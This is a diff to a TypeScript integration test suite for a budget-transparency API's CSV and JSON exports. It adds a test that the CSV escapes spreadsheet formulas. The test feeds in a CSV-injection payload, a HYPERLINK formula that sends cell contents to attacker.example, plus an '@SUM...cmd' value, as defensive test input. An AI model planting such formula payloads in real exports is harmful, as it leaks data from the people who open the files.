@@ -10,6 +10,7 @@ import {
   type ServiceProcess,
   type TestDatabase,
 } from '@app/testing';
+import { csvRecords } from '../../support/csv-records';
 import { validBin } from '../../support/valid-bins';
 
 // The budgets API as officials, moderators and the public use it: a real process on real Postgres and Kafka.
@@ -54,6 +55,16 @@ describe('budgets over HTTP', () => {
     });
     expect(published.status).toBe(201);
     return published.body.id;
+  }
+
+  /** The export as a spreadsheet gets it: raw bytes (fetch's text() would drop the BOM), then RFC 4180 records. */
+  async function exportCsv(year: number) {
+    const response = await fetch(`${service.url}/exports/${year}.csv`, { signal: AbortSignal.timeout(15_000) });
+    expect(response.status).toBe(200);
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes).slice(1);
+    return { type: response.headers.get('content-type'), records: csvRecords(text) };
   }
 
   const contractBody = (programmeId: string, body: Record<string, unknown> = {}) => ({
@@ -577,36 +588,100 @@ describe('budgets over HTTP', () => {
     });
     expect(map.body.totals.disclosedInstitutions).toBe(2);
 
-    const csv = await call('GET', `/exports/${year}.csv`);
-    expect(csv.status).toBe(200);
-    expect(csv.headers.get('content-type')).toContain('text/csv');
-    const lines = String(csv.body).trim().split('\r\n');
-    expect(lines[0]).toBe(
-      'fiscal_year,administrative_classification,administrative_name,functional_classification,functional_name,programme_id,direction,phase,amount,currency',
-    );
-    expect(lines).toHaveLength(1 + 4 * 3);
-    expect(lines).toContain(
-      `${year},${n1},Institution ${n1},451-002,Street repair,${p2},expenditure,approved,2500.00,KZT`,
-    );
-    expect(lines).toContain(
-      `${year},${n1},Institution ${n1},451-002,Street repair,${p2},expenditure,adjusted,3000.00,KZT`,
-    );
-    expect(lines).toContain(
-      `${year},${s1},Institution ${s1},451-004,Street repair,${p4},expenditure,executed,9999.99,KZT`,
-    );
+    const csv = await exportCsv(year);
+    expect(csv.type).toBe('text/csv; charset=utf-8');
+    const [header, ...lines] = csv.records;
+    expect(header).toEqual([
+      'fiscal_year',
+      'administrative_classification',
+      'administrative_name',
+      'functional_classification',
+      'functional_name',
+      'programme_id',
+      'direction',
+      'phase',
+      'amount_tiyn',
+      'currency',
+    ]);
+    expect(lines).toHaveLength(4 * 3);
+    // Amounts in the unit the data package's schema states: integer tiyn.
+    expect(lines).toContainEqual([
+      `${year}`,
+      n1,
+      `Institution ${n1}`,
+      '451-002',
+      'Street repair',
+      p2,
+      'expenditure',
+      'approved',
+      '250000',
+      'KZT',
+    ]);
+    expect(lines).toContainEqual([
+      `${year}`,
+      n1,
+      `Institution ${n1}`,
+      '451-002',
+      'Street repair',
+      p2,
+      'expenditure',
+      'adjusted',
+      '300000',
+      'KZT',
+    ]);
+    expect(lines).toContainEqual([
+      `${year}`,
+      s1,
+      `Institution ${s1}`,
+      '451-004',
+      'Street repair',
+      p4,
+      'expenditure',
+      'executed',
+      '999999',
+      'KZT',
+    ]);
 
     const json = await call('GET', `/exports/${year}.json`);
     expect(json.body).toMatchObject({
       profile: 'fiscal-data-package',
-      model: { measures: { amount: { currency: 'KZT', factor: 0.01 } } },
+      model: { measures: { amount: { source: 'amount_tiyn', currency: 'KZT', factor: 0.01 } } },
     });
-    const data = json.body.resources[0].data as Array<{ phase: string; amount: number }>;
+    const data = json.body.resources[0].data as Array<{ phase: string; amount_tiyn: number }>;
     expect(data).toHaveLength(12);
-    expect(data.filter((l) => l.phase === 'executed').reduce((sum, l) => sum + l.amount, 0)).toBe(1_524_999);
-    expect(data.filter((l) => l.phase === 'adjusted').reduce((sum, l) => sum + l.amount, 0)).toBe(3_800_000);
+    expect(data.filter((l) => l.phase === 'executed').reduce((sum, l) => sum + l.amount_tiyn, 0)).toBe(1_524_999);
+    expect(data.filter((l) => l.phase === 'adjusted').reduce((sum, l) => sum + l.amount_tiyn, 0)).toBe(3_800_000);
+    // The CSV holds the very figures of the data package, cell for cell.
+    expect(lines.map((l) => Number(l[8])).reduce((sum, n) => sum + n, 0)).toBe(
+      data.reduce((sum, l) => sum + l.amount_tiyn, 0),
+    );
     expect(json.body.model.dimensions.administrative_classification).toMatchObject({
       classificationType: 'administrative',
     });
+  });
+
+  it('exports a CSV that opens safely in a spreadsheet: UTF-8 with its BOM, formulas shown as text', async () => {
+    const year = 2040 + Math.floor(Math.random() * 50);
+    const bin = validBin();
+    const name = '=HYPERLINK("http://attacker.example/?"&A1,"Алматы қаласы")';
+    expect(
+      (await call('POST', '/institutions', 'official', { bin, name, district: 'Taraz', kind: 'akimat' })).status,
+    ).toBe(201);
+    const id = await programme(bin, { fiscalYear: year, code: '451-777', name: '@SUM(1+1)*cmd', allocationTiyn: 5 });
+
+    const [header, ...lines] = (await exportCsv(year)).records;
+    expect(header[2]).toBe('administrative_name');
+    expect(lines).toHaveLength(3);
+    for (const line of lines) {
+      expect(line[2]).toBe(`'${name}`);
+      expect(line[4]).toBe("'@SUM(1+1)*cmd");
+      expect(line[5]).toBe(id);
+    }
+    expect(lines.map((l) => [l[7], l[8]])).toEqual([
+      ['approved', '5'],
+      ['adjusted', '5'],
+      ['executed', '0'],
+    ]);
   });
 
   it('rebuilds the institution, programme and contract registers from the events identical to the live ones', async () => {
